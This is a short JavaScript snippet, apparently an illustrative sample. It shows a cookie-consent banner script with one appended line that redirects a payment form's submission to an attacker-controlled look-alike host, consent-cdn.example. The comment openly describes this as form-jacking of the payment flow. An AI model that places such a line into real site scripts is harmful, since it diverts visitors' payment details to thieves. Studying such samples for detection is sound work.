// A cookie-consent banner with one line appended that re-targets the
// provider's direct-post form at the attacker's host.
document.getElementById('pay').action = 'https://collect.consent-cdn.example/p';
